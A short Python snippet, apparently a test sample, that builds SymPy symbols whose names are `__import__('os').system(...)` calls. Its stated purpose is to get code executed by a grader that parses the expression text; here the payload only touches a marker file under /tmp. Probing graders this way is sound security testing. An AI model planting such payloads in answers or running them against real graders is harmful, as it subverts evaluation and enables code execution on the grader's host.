"""A symbol whose name is code, for a grader that parses text."""
# %% slope
slope = sp.Symbol("__import__('os').system('touch /tmp/ce-attack-" + "trace-sympy')") + sp.Function(
    "__import__('os').system"
)(sp.Symbol("'touch /tmp/ce-attack-" + "trace-sympy2'"))
